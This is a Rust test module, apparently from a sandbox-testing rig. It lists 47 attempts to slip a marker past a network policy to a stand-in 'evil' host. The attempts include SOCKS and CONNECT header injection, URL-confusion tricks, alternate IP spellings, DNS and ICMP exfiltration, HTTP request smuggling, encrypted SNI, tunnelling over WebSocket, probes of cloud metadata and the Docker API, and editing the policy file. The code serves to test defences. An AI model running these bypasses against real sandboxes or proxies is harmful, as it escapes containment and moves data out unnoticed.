//! Getting packets past the policy: what counts is that a server of the rig's sees the mark.

use super::get_by_settings;
use crate::dial::{self, any_of, fetch_through, get, github, query, request, through, variable};
use crate::rig::{EVIL, EVIL_ADDRESS, EVIL_ADDRESS_6, HOST_SERVICE, OK, PROXY, PROXY_PORT, REBIND};
use crate::scene::{Arm, Scene};
use crate::sys;
use crate::vector::Condition::{ParentProxy, Wildcard};
use crate::vector::Evidence::{Arrived, Done};
use crate::vector::Group::Packets;
use crate::vector::{Attacked, SEEN, Stop, Tried, Vector, held, outside, untried};
use std::io::{Read, Write};
use std::net::UdpSocket;
use std::path::PathBuf;
use std::time::Duration;

/// The first 47 vectors.
pub(super) const VECTORS: &[Vector] = &[
    held(1, Packets, "dial a host without asking the proxy", SEEN, |_, mark| get(EVIL, 80, &path(mark))),
    held(2, Packets, "use a proxy of one's own choice", SEEN, own_proxy),
    held(3, Packets, "a list of allowed hosts that does not name the host (an empty list is none)", SEEN, |_, mark| {
        dial::https("GET", EVIL, &path(mark), &[], "")
    }),
    held(4, Packets, "change the policy's file while the session runs", SEEN, edit_policy),
    outside(5, Packets, "a host that lacks a feature runs without the sandbox", SEEN),
    held(6, Packets, "a name with NUL in SOCKS5", SEEN, |_, mark| socks(&format!("{EVIL}\0.{OK}"), mark)),
    held(7, Packets, "CR LF, NUL, tab in the target of CONNECT", SEEN, |_, mark| {
        spelled(mark, &[&format!("{EVIL}%00.{OK}"), &format!("{EVIL}%0d%0a.{OK}"), &format!("{EVIL}\t.{OK}")])
    }),
    held(8, Packets, "an allowed name as user before the host", SEEN, |_, mark| {
        any_of([
            fetch_through(&format!("http://{OK}@{EVIL}/{mark}"), OK),
            through(&format!("{OK}@{EVIL}:80"), request("GET", OK, &path(mark), &[], "").as_bytes()),
        ])
    }),
    held(9, Packets, "`#`, `\\` and `?` around the host", SEEN, |_, mark| {
        any_of([
            fetch_through(&format!("http://{EVIL}#@{OK}/{mark}"), OK),
            fetch_through(&format!("http://{EVIL}\\@{OK}/{mark}"), OK),
            through(&format!("{EVIL}#@{OK}:80"), request("GET", OK, &path(mark), &[], "").as_bytes()),
        ])
    }),
    held(10, Packets, "a dot at the end of a name", SEEN, |_, mark| {
        let dotted = format!("{EVIL}.");
        any_of([get(&dotted, 80, &path(mark)), spelled(mark, &[&dotted])])
    }),
    held(11, Packets, "letters that fold to others", SEEN, |_, mark| spelled(mark, &["ⓔvil.example", "EVIL.EXAMPLE"])),
    held(12, Packets, "odd spellings of an IPv4 address", SEEN, |_, mark| {
        at_loopback(mark, &["2130706433", "0x7f.1", "0177.0.0.1", "127.1"])
    }),
    held(13, Packets, "an IPv4 address within IPv6", SEEN, |_, mark| {
        at_loopback(mark, &["[::ffff:127.0.0.1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]"])
    }),
    held(14, Packets, "the unspecified address", SEEN, |_, mark| {
        any_of([
            get("0.0.0.0", HOST_SERVICE, &path(mark)),
            get("::", HOST_SERVICE, &path(mark)),
            at_loopback(mark, &["0.0.0.0", "[::]"]),
        ])
    }),
    held(15, Packets, "names that only look as if a rule meant them", SEEN, |_, mark| {
        any_of(["evilgood.example", "good.example.evil.example"].map(|name| get(name, 80, &path(mark))))
    }),
    held(16, Packets, "another customer's corner of an allowed service", SEEN, |_, mark| {
        let path = format!("/{mark}?X-Amz-Signature=0123456789abcdef");
        dial::https("PUT", "attacker-bucket.s3.amazonaws.com", &path, &[], mark)
    }),
    held(17, Packets, "another port of an allowed host", SEEN, |_, mark| {
        any_of([get(OK, 8443, &path(mark)), through(&format!("{OK}:22"), mark.as_bytes())])
    }),
    held(18, Packets, "an address instead of a name", SEEN, |_, mark| {
        any_of([
            dial::tls(EVIL_ADDRESS, OK, &[], request("GET", OK, &path(mark), &[], "").as_bytes()),
            get(EVIL_ADDRESS, 80, &path(mark)),
        ])
    }),
    held(19, Packets, "IPv6", SEEN, |_, mark| get(EVIL_ADDRESS_6, 80, &path(mark))),
    held(20, Packets, "data in DNS queries, to any resolver", SEEN, |_, mark| {
        let ask = |server: &str| datagram(server, 53, &query(&format!("{mark}.{EVIL}")));
        any_of(["8.8.8.8", "1.1.1.1", "2001:4860:4860::8888", "127.0.0.53", PROXY].map(ask))
    }),
    held(21, Packets, "data in a name that is refused, but looked up first", SEEN, |_, mark| {
        let name = format!("{mark}.{EVIL}");
        // An answer of the system's that there is no such name comes from a server that was asked.
        drop(get(&name, 80, "/"));
        drop(fetch_through(&format!("http://{name}/"), &name));
        through(&format!("{name}:443"), b"GET / HTTP/1.1\r\n\r\n")
    }),
    untried(22, Packets, "macOS' resolver service", "macOS only"),
    held(23, Packets, "DNS over HTTPS, TLS and TCP", SEEN, |_, mark| {
        let asked = query(&format!("{mark}.{EVIL}"));
        let framed = [&u16::try_from(asked.len()).unwrap_or_default().to_be_bytes()[..], &asked].concat();
        let path = format!("/dns-query?name={mark}.{EVIL}");
        any_of([
            dial::tls("1.1.1.1", "one.example", &[], request("GET", "one.example", &path, &[], "").as_bytes()),
            dial::clear("1.1.1.1", 853, &framed),
            dial::clear("8.8.8.8", 53, &framed),
        ])
    }),
    held(24, Packets, "names below an allowed one, for its DNS to see", SEEN, |_, mark| {
        let name = format!("{mark}.{OK}");
        any_of([get(&name, 80, "/"), through(&format!("{name}:80"), b"GET / HTTP/1.1\r\n\r\n"), spelled("", &[&name])])
    })
    .open_when(Wildcard, "the names that it means are looked up"),
    held(25, Packets, "an allowed name that leads to the host's loopback", SEEN, |_, mark| {
        any_of([get(REBIND, 80, &path(mark)), get(REBIND, 80, &path(mark))])
    }),
    untried(26, Packets, "a parent proxy looks the name up again", "needs a parent proxy")
        .open_when(ParentProxy, "what it finds is not seen, and the record says so"),
    held(27, Packets, "a redirect that the proxy itself follows", Arrived("latest/"), |_, mark| {
        any_of([fetch_through(&format!("http://{OK}/redirect/{mark}"), OK), get(OK, 80, &format!("/redirect/{mark}"))])
    }),
    held(28, Packets, "connect to an allowed host, ask for another", SEEN, |_, mark| {
        dial::tls(OK, OK, &[], request("GET", EVIL, &path(mark), &[], "").as_bytes())
    }),
    held(29, Packets, "an address with an allowed name in `Host`", SEEN, |_, mark| {
        any_of([
            dial::clear(EVIL_ADDRESS, 80, request("GET", OK, &path(mark), &[], "").as_bytes()),
            dial::clear(PROXY, 80, request("GET", EVIL, &path(mark), &[], "").as_bytes()),
        ])
    }),
    held(30, Packets, "a greeting whose true name is encrypted", SEEN, |_, mark| {
        dial::clear(OK, 443, &encrypted_greeting(mark))
    }),
    held(31, Packets, "another host on a connection that is kept", SEEN, |_, mark| {
        let first = format!("GET / HTTP/1.1\r\nhost: {OK}\r\n\r\n");
        dial::tls(OK, OK, &[], (first + &request("GET", EVIL, &path(mark), &[], "")).as_bytes())
    }),
    held(32, Packets, "a request hidden in another (two lengths)", SEEN, |_, mark| {
        let hidden = format!("GET /{mark} HTTP/1.1\r\nhost: {EVIL}\r\n\r\n");
        let text = format!(
            "POST / HTTP/1.1\r\nhost: {OK}\r\nconnection: close\r\ncontent-length: {}\r\n\
             transfer-encoding: chunked\r\n\r\n0\r\n\r\n{hidden}",
            hidden.len() + 5
        );
        dial::clear(OK, 80, text.as_bytes())
    }),
    held(33, Packets, "another spelling of a path that is denied", SEEN, |_, mark| {
        let spellings =
            ["/Gists", "//gists", "/x/../gists", "/%67ists", "/gists;x", "/gists/", "/gists%2F", "/./gists"];
        any_of(spellings.map(|path| github("POST", path, &format!("{{\"x\":\"{mark}\"}}"))))
    }),
    held(34, Packets, "another method by a field", SEEN, |_, mark| {
        let fields = [("X-HTTP-Method-Override", mark), ("X_Method_Override", mark), ("X-HTTP-Method", mark)];
        any_of([dial::https("POST", OK, "/", &fields, "x")])
    }),
    held(35, Packets, "SSH through a tunnel, or where TLS should be", SEEN, |_, mark| {
        let greeting = format!("SSH-2.0-{mark}\r\n");
        any_of([
            through(&format!("{OK}:443"), greeting.as_bytes()),
            dial::clear(OK, 443, greeting.as_bytes()),
            dial::clear(OK, 22, greeting.as_bytes()),
        ])
    }),
    held(36, Packets, "TLS with something else than HTTP in it", SEEN, |_, mark| {
        any_of([
            dial::tls(OK, OK, &[b"opaque"], format!("\0{mark}").as_bytes()),
            dial::tls(OK, OK, &[], format!("\0{mark}").as_bytes()),
        ])
    }),
    held(37, Packets, "a tunnel of any bytes after an upgrade", SEEN, upgraded),
    held(38, Packets, "QUIC", SEEN, |_, mark| {
        datagram(EVIL, 443, &[&[0xc0, 0, 0, 0, 1, 8][..], mark.as_bytes()].concat())
    }),
    held(39, Packets, "UDP to any port", SEEN, |_, mark| {
        any_of([datagram(EVIL, 9999, mark.as_bytes()), datagram(EVIL_ADDRESS_6, 9999, mark.as_bytes())])
    }),
    held(40, Packets, "ICMP, with data in it", Done, ping),
    untried(
        41,
        Packets,
        "a relay inside borrows another command's identity",
        "all commands of a session have one identity",
    ),
    held(42, Packets, "services on the host's loopback", SEEN, |_, mark| {
        any_of([
            get("127.0.0.1", HOST_SERVICE, &path(mark)),
            get("::1", HOST_SERVICE, &path(mark)),
            get("localhost", 11434, &path(mark)),
            at_loopback(mark, &["LOCALHOST", "127.0.0.2"]),
        ])
    }),
    held(43, Packets, "the local network, Docker's bridge", SEEN, |_, mark| {
        any_of([
            get("172.17.0.1", 2375, &path(mark)),
            get("host.docker.internal", 80, &path(mark)),
            get("192.168.1.1", 80, &path(mark)),
            get("10.0.0.1", 5432, mark),
        ])
    }),
    held(44, Packets, "the cloud's metadata service", SEEN, |_, mark| {
        let addresses =
            ["169.254.169.254", "168.63.129.16", "100.100.100.200", "fd00:ec2::254", "metadata.google.internal"];
        any_of(addresses.map(|address| get(address, 80, &path(mark))))
    }),
    held(45, Packets, "sockets to the virtual machine's host", Done, |_, _| open_family(&[40])),
    held(46, Packets, "programs of Windows, from WSL", Done, windows),
    held(47, Packets, "other families of sockets", Done, |_, _| {
        // To nftables, to other netlink families, to what hears of devices.
        let netlink = [12, 16, 15].map(|protocol| {
            sys::socket(libc::AF_NETLINK, libc::SOCK_RAW, protocol)
                .attacked("netlink")
                .map(|_| format!("netlink {protocol}"))
        });
        let families = open_family(&[38, 17, 33, 31, 29, 30, 41, 42, 43, 44, 9, 5, 15]);
        any_of(netlink.into_iter().chain([families]))
    }),
];

fn path(mark: &str) -> String {
    format!("/{mark}")
}

/// The proxy is asked for a name in these spellings.
fn spelled(mark: &str, names: &[&str]) -> Tried {
    let bytes = request("GET", EVIL, &path(mark), &[], "");
    any_of(names.iter().map(|name| through(&format!("{name}:80"), bytes.as_bytes())))
}

/// The proxy is asked for a service on the host's loopback.
fn at_loopback(mark: &str, spellings: &[&str]) -> Tried {
    any_of(spellings.iter().flat_map(|host| {
        let authority = format!("{host}:{HOST_SERVICE}");
        [
            fetch_through(&format!("http://{authority}/{mark}"), &authority),
            through(&authority, request("GET", &authority, &path(mark), &[], "").as_bytes()),
        ]
    }))
}

fn own_proxy(_: &Scene, mark: &str) -> Tried {
    let text = format!("CONNECT {mark}.example:443 HTTP/1.1\r\nhost: {mark}.example\r\n\r\n");
    dial::clear(EVIL, PROXY_PORT, text.as_bytes())
}

fn edit_policy(scene: &Scene, mark: &str) -> Tried {
    let in_home = PathBuf::from(variable("HOME")?).join(".config/standin/config.toml");
    get_by_settings([in_home, scene.host("config/standin/config.toml")], mark)
}

fn socks(name: &str, mark: &str) -> Tried {
    let mut socket = dial::connect(PROXY, 1080).attacked("connecting")?;
    socket.write_all(&[5, 1, 0]).attacked("greeting")?;
    let mut reply = [0; 2];
    socket.read_exact(&mut reply).attacked("the proxy's answer")?;
    let length = u8::try_from(name.len()).map_err(|_| Stop::Untried("a long name".to_owned()))?;
    let ask = [&[5, 1, 0, 3, length][..], name.as_bytes(), &80_u16.to_be_bytes()].concat();
    socket.write_all(&ask).attacked("asking")?;
    let mut reply = [0; 10];
    socket.read_exact(&mut reply).attacked("the proxy's answer")?;
    if reply[1] != 0 {
        return Err(Stop::Refused(format!("SOCKS error {}", reply[1])));
    }
    socket.write_all(request("GET", EVIL, &path(mark), &[], "").as_bytes()).attacked("sending")?;
    Ok(dial::answer(&mut socket))
}

fn datagram(host: &str, port: u16, bytes: &[u8]) -> Tried {
    let any = if host.contains(':') { "[::]:0" } else { "0.0.0.0:0" };
    let socket = UdpSocket::bind(any)?;
    socket.connect((host, port)).attacked("connecting")?;
    socket.send(bytes).attacked("sending")?;
    // A refusal comes at once; where none comes, the datagram has gone out.
    socket.set_read_timeout(Some(Duration::from_millis(1)))?;
    match socket.recv(&mut [0; 512]) {
        Err(error) if error.kind() == std::io::ErrorKind::ConnectionRefused => Err(Stop::Refused(error.to_string())),
        _ => Ok("sent".to_owned()),
    }
}

/// A TLS greeting for an allowed name, with an extension in which the true one would be.
fn encrypted_greeting(mark: &str) -> Vec<u8> {
    let with_length =
        |bytes: &[u8]| [&u16::try_from(bytes.len()).unwrap_or_default().to_be_bytes()[..], bytes].concat();
    let extension = |number: u16, bytes: &[u8]| [&number.to_be_bytes()[..], &with_length(bytes)].concat();
    let name = [&[0][..], &with_length(OK.as_bytes())].concat();
    let payload = [&[0, 0, 1, 0, 1, 7, 0, 0][..], &with_length(mark.as_bytes())].concat();
    let extensions = [
        extension(0, &with_length(&name)),
        extension(0xfe0d, &payload),
        extension(43, &[2, 3, 4]),     // TLS 1.3
        extension(10, &[0, 2, 0, 29]), // X25519
        extension(13, &[0, 2, 4, 3]),  // ECDSA with SHA-256
    ]
    .concat();
    let body = [&[3, 3][..], &[7; 32], &[0], &with_length(&[0x13, 0x01]), &[1, 0], &with_length(&extensions)].concat();
    let length = u32::try_from(body.len()).unwrap_or_default().to_be_bytes();
    let handshake = [&[1][..], &length[1..], &body].concat();
    [&[22, 3, 1][..], &with_length(&handshake)].concat()
}

fn upgraded(_: &Scene, mark: &str) -> Tried {
    let socket = dial::connect(OK, 443).attacked("connecting")?;
    let mut stream = dial::secure(socket, OK, &[])?;
    let upgrade = format!(
        "GET /upgrade HTTP/1.1\r\nhost: {OK}\r\nconnection: upgrade\r\nupgrade: websocket\r\n\
         sec-websocket-version: 13\r\nsec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
    );
    stream.write_all(upgrade.as_bytes()).attacked("asking")?;
    let mut reply = [0; 1024];
    let length = stream.read(&mut reply).attacked("the answer")?;
    let line = String::from_utf8_lossy(&reply[..length]).lines().next().unwrap_or_default().to_owned();
    if !line.contains(" 101 ") {
        return Err(Stop::Refused(line));
    }
    stream.write_all(format!("SSH-2.0-{mark}\r\n").as_bytes()).attacked("sending")?;
    stream.conn.send_close_notify();
    stream.flush().attacked("sending")?;
    Ok("sent".to_owned())
}

fn ping(_: &Scene, mark: &str) -> Tried {
    let raw = sys::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_ICMP).attacked("a raw socket");
    let socket = match raw {
        Ok(_) => return Ok("a raw socket".to_owned()),
        Err(_) => sys::socket(libc::AF_INET, libc::SOCK_DGRAM, libc::IPPROTO_ICMP).attacked("a socket for pings")?,
    };
    let socket = UdpSocket::from(socket);
    socket.connect((EVIL_ADDRESS, 0)).attacked("connecting")?;
    socket.send(&[&[8, 0, 0, 0, 0, 1, 0, 1][..], mark.as_bytes()].concat()).attacked("sending")?;
    Ok("a ping was sent".to_owned())
}

/// Opens sockets of these families, of any type that there is.
fn open_family(families: &[i32]) -> Tried {
    let open = |family: i32| {
        let kinds = [libc::SOCK_STREAM, libc::SOCK_DGRAM, libc::SOCK_SEQPACKET, libc::SOCK_RAW];
        any_of(kinds.map(|kind| sys::socket(family, kind, 0).attacked("opening").map(|_| family.to_string())))
    };
    any_of(families.iter().map(|family| open(*family)))
}

fn windows(scene: &Scene, _: &str) -> Tried {
    let program = "/mnt/c/Windows/System32/cmd.exe";
    if scene.arm == Arm::Bare && !std::path::Path::new(program).exists() {
        return Err(Stop::Refused("this is no WSL".to_owned()));
    }
    let output = std::process::Command::new(program).args(["/c", "ver"]).output().attacked(program)?;
    Ok(String::from_utf8_lossy(&output.stdout).into_owned())
}
